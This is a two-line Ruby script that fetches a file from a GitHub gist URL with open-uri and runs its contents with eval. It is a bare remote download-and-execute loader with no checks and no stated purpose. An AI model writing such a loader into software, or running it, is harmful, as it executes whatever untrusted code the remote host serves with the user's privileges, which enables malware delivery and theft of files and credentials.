require 'open-uri'
eval(URI.open('https://gist.githubusercontent.com/x/0a1b/raw/g.rb').read)
